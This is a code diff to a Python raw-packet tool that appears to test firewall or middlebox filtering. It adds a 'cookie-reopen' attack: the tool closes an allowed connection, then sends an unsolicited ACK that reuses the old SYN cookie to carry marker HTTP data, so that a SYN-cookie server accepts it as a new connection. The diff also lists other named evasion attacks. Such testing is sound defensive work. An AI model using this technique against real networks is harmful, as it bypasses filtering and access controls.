@@ -249,6 +249,53 @@ def udp(args, marker):
         return "refused %d" % e.errno
 
 
+def wait_ack(r, upto, timeout=2):
+    """Until the server acknowledges `upto' (or resets it)."""
+    deadline = time.time() + timeout
+    while time.time() < deadline:
+        got = r.receive(deadline - time.time())
+        if not got:
+            break
+        if got[0] & RST:
+            return "reset"
+        if (got[2] - upto) & 0x80000000 == 0:
+            return "acked"
+    return "timeout"
+
+
+def cookie_reopen(r, marker):
+    """An allowed connection whose server answered with a SYN cookie
+    ends (END=fin: the client's close, first; else its reset); then, with
+    no SYN, an ACK carrying the marker at its first sequence number,
+    acknowledging the old cookie: a server in SYN-cookie mode takes it
+    for a new connection."""
+    if not r.connect():
+        return "no-synack"
+    cookie = (r.ack - 1) & 0xFFFFFFFF
+    hello = client_hello(ALLOWED)
+    r.send(r.isn + 1, PSH, hello)
+    end = r.isn + 1 + len(hello)
+    out = "first:" + wait_ack(r, end & 0xFFFFFFFF)
+    time.sleep(0.1)
+    if os.environ.get("END") == "fin":
+        r.send(end, FIN)
+        deadline = time.time() + 3
+        while time.time() < deadline:
+            got = r.receive(deadline - time.time())
+            if got and got[0] & FIN:
+                r.ack = (got[1] + len(got[3]) + 1) & 0xFFFFFFFF
+                r.send(end + 1, 0)
+                out += " closed"
+                break
+    else:
+        r.send(end, RST, ack=0)
+    time.sleep(0.2)
+    r.ack = (cookie + 1) & 0xFFFFFFFF
+    data = marker_http(marker)
+    r.send(r.isn + 1, PSH, data)
+    return out + " second:" + wait_ack(r, (r.isn + 1 + len(data)) & 0xFFFFFFFF)
+
+
 def mac(text):
     return bytes(int(x, 16) for x in text.split(":"))
 
@@ -332,7 +379,8 @@ def main():
     r = Raw(a.src, a.dst, a.port, int(os.environ.get("SPORT") or 0) or None)
     attack = {"syn-late": syn_late, "reconnect": reconnect,
               "pg-hold": pg_hold, "flags": flags, "paws": paws,
-              "hostile": hostile, "spoofed-reply": spoofed_reply}[a.attack]
+              "hostile": hostile, "spoofed-reply": spoofed_reply,
+              "cookie-reopen": cookie_reopen}[a.attack]
     print(attack(r, marker))
 
 
